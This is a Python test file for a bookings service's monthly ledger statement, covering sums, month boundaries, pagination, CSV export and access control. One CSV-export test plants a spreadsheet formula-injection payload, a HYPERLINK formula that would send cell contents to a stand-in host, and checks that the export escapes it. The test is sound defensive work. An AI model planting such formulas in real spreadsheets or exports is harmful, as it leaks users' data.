"""A month of an operator's money: what is shown is what the ledger says, and it adds up."""

import csv
import io
import random
from collections import defaultdict
from datetime import date, datetime, timedelta
from typing import Any
from uuid import UUID, uuid4

import pytest

from services.bookings.money.statements import month_of
from shared.core.clock import SHANGHAI, SystemClock, today
from tests.bookings.life.stage import ADULT, HALF, Life, line_of, without_own
from tests.bookings.village import CAMPING, NEXT_WEEK, OPERATOR, POTTERY, Json, at, camping, pottery
from tests.bookings.world import Answer

MONTH = f"{today(SystemClock()):%Y-%m}"
LAST_MONTH = f"{today(SystemClock()).replace(day=1) - timedelta(days=1):%Y-%m}"
ADD = """
insert into ledger_movements (
    organisation_id, order_id, line_id, kind, debit, credit, amount_fen, moved_at
)
values ($1, $2, $3, 'cash', 'cash', 'receivable', $4, $5)
"""


async def statement(
    life: Life, month: str = MONTH, what: str = "", token: str | None = None, **params: str
) -> Answer:
    return await life.bookings.call(
        "GET",
        f"/v1/organisations/{OPERATOR}/statement{what}",
        token=token or life.bookings.operator,
        params={"month": month, **params},
    )


async def every_page(life: Life, what: str = "", **params: str) -> list[Json]:
    """Return the items of all pages, three at a time."""
    items: list[Json] = []
    cursor: dict[str, str] = {}
    while True:
        page = (await statement(life, what=what, limit="3", **params, **cursor)).json
        page = page if what else page["movements"]
        items += page["items"]
        if page["next"] is None:
            return items
        cursor = {"cursor": page["next"]}


async def busy_month(life: Life, seed: int) -> None:
    """Let orders be placed, paid, changed and cancelled at random."""
    chance = random.Random(seed)
    await life.terms(HALF)
    await life.bookings.publish_slot(POTTERY, at(NEXT_WEEK, 14), 50)
    await life.bookings.publish_slot(CAMPING, at(NEXT_WEEK, 15), 20, hours=20)
    for _ in range(8):
        adults = chance.randint(1, 3)
        place = chance.choice([life.paid, life.ordered, life.held])
        token = life.bookings.tokens.person()
        order = await place(pottery(adult=adults), camping(), token=token)
        if chance.random() < 0.5:
            await life.starts_in(line_of(order), hours=chance.choice([30, 72]))
        if chance.random() < 0.4:
            change = {
                "tickets": {"adult": chance.randint(1, 3)},
                "starts_at": pottery()["starts_at"],
            }
            await life.change(order["order_id"], line_of(order), token=token, **change)
        if chance.random() < 0.8:
            line_id = line_of(order, chance.randint(0, 1))
            await life.cancel(order["order_id"], line_id, token=token)


@pytest.mark.parametrize("seed", range(4))
async def test_a_statement_is_the_ledger_and_adds_up(life: Life, seed: int) -> None:
    await busy_month(life, seed)
    shown = (await statement(life)).json
    movements = await every_page(life)
    rows = await life.bookings.fetch_rows(
        "select movement_id, kind, debit, credit, amount_fen from ledger_movements"
        " where organisation_id = $1 order by movement_id",
        OPERATOR,
    )
    names = ("movement_id", "kind", "debit", "credit", "amount_fen")
    assert [[movement[name] for name in names] for movement in movements] == [
        list(row) for row in rows
    ]
    sums: defaultdict[tuple[str, str], list[int]] = defaultdict(lambda: [0, 0])
    for movement in movements:
        sums[movement["debit"], movement["kind"]][0] += movement["amount_fen"]
        sums[movement["credit"], movement["kind"]][1] += movement["amount_fen"]
    assert {
        (one["account"], one["kind"]): [one["debit_fen"], one["credit_fen"]]
        for one in shown["sums"]
    } == sums
    for balance in shown["balances"]:
        moved = sum(
            debit - credit
            for (account, _), (debit, credit) in sums.items()
            if account == balance["account"]
        )
        assert balance["closing_fen"] == balance["opening_fen"] + moved
    assert sum(balance["closing_fen"] for balance in shown["balances"]) == 0


@pytest.mark.parametrize("seed", range(2))
async def test_the_orders_of_a_month_sum_to_its_statement(life: Life, seed: int) -> None:
    await busy_month(life, seed)
    sums = {(one["account"], one["kind"]): one for one in (await statement(life)).json["sums"]}
    orders = await every_page(life, "/orders")
    assert [order["order_id"] for order in orders] == sorted(order["order_id"] for order in orders)
    for name, account, kind in (
        ("sold_fen", "receivable", "sale"),
        ("reversed_fen", "sales", "sale_reversed"),
        ("fees_fen", "receivable", "fee"),
        ("paid_fen", "provider", "payment"),
        ("refunds_requested_fen", "receivable", "refund_requested"),
    ):
        total = sums.get((account, kind), {"debit_fen": 0})["debit_fen"]
        assert sum(order[name] for order in orders) == total
    for order in orders:
        balances = await life.balances(order["order_id"])
        assert order["open_fen"] == balances.get("receivable", 0)


async def test_a_month_ends_at_midnight_in_the_villages(life: Life) -> None:
    order = await life.ordered()
    begins = month_of(MONTH).begins
    assert begins == datetime.combine(
        today(SystemClock()).replace(day=1), datetime.min.time(), SHANGHAI
    )
    for fen, moment in ((1, begins - timedelta(microseconds=1)), (10, begins)):
        await life.bookings.execute(
            ADD, OPERATOR, UUID(order["order_id"]), UUID(line_of(order)), fen, moment
        )
    cash = {one["account"]: one for one in (await statement(life)).json["balances"]}["cash"]
    assert (cash["opening_fen"], cash["closing_fen"]) == (1, 11)
    earlier = (await statement(life, LAST_MONTH)).json
    assert [movement["amount_fen"] for movement in earlier["movements"]["items"]] == [1]
    [of_order] = (await statement(life, LAST_MONTH, "/orders")).json["items"]
    assert (of_order["cash_fen"], of_order["open_fen"], of_order["sold_fen"]) == (1, -1, 0)
    [of_order] = (await statement(life, what="/orders")).json["items"]
    assert (of_order["cash_fen"], of_order["open_fen"]) == (10, 2 * ADULT - 11)


@pytest.mark.parametrize(
    ("month", "days"), [("2026-02", 28), ("2028-02", 29), ("2026-12", 31), ("2026-04", 30)]
)
def test_months_have_their_days(month: str, days: int) -> None:
    found = month_of(month)
    assert found.begins.date() == date.fromisoformat(f"{month}-01")
    assert found.ends - found.begins == timedelta(days=days)


async def test_nothing_moved_is_a_statement_too(life: Life) -> None:
    shown = (await statement(life, "2020-01")).json
    assert (shown["sums"], shown["movements"]) == ([], {"items": [], "next": None})
    assert {balance["closing_fen"] for balance in shown["balances"]} == {0}
    assert len(shown["balances"]) == 6


async def test_a_file_has_every_movement_and_runs_nothing(life: Life) -> None:
    await life.paid(pottery(), camping())
    await life.bookings.execute(
        "update order_lines set offering_name = jsonb_build_object('zh', $1::text, 'en', $1)"
        " where offering_id = $2",
        '=HYPERLINK("https://example.org?"&A1)',
        POTTERY,
    )
    answer = await statement(life, what=".csv")
    assert (answer.status, answer.headers["Content-Type"]) == (200, "text/csv; charset=utf-8")
    assert f"xiangyou-{MONTH}.csv" in answer.headers["Content-Disposition"]
    header, *rows = csv.reader(io.StringIO(answer.json.removeprefix("\ufeff"), newline=""))
    assert header[0] == "序号"
    movements = await every_page(life)
    assert [row[0] for row in rows] == [str(movement["movement_id"]) for movement in movements]
    assert {row[3] for row in rows} == {
        '\'=HYPERLINK("https://example.org?"&A1)',
        "溪边露营",
        "",
    }
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    total = sum(round(float(row[7]) * 100) for row in rows)
    assert total == sum(movement["amount_fen"] for movement in movements)
    english = await statement(life, what=".csv", language="en")
    assert english.json.startswith("\ufeffNumber,Time,Order")


@pytest.mark.parametrize("what", ["", "/orders", ".csv"])
async def test_the_books_of_another_operator_are_not_found(life: Life, what: str) -> None:
    stranger = life.bookings.tokens.person(organisations=[uuid4()])
    theirs = await statement(life, what=what, token=stranger)
    missing = await life.bookings.call(
        "GET",
        f"/v1/organisations/{uuid4()}/statement{what}",
        token=stranger,
        params={"month": MONTH},
    )
    assert theirs.status == 404
    assert without_own(theirs) == without_own(missing)
    assert (await statement(life, what=what, token=life.bookings.visitor)).status == 403


@pytest.mark.parametrize(
    "params",
    [
        {"month": "2026-13"},
        {"month": "2026-1"},
        {"month": "1999-12"},
        {"month": "now"},
        {"cursor": "eyJhZnRlciI6InguInoifQ"},
        {"cursor": "eyJhZnRlciI6LTF9"},
        {"cursor": "x"},
        {"limit": "0"},
        {"limit": "101"},
        {"year": "2026"},
    ],
    ids=str,
)
async def test_what_makes_no_sense_is_refused(life: Life, params: Any) -> None:
    assert (await statement(life, **params)).status == 422
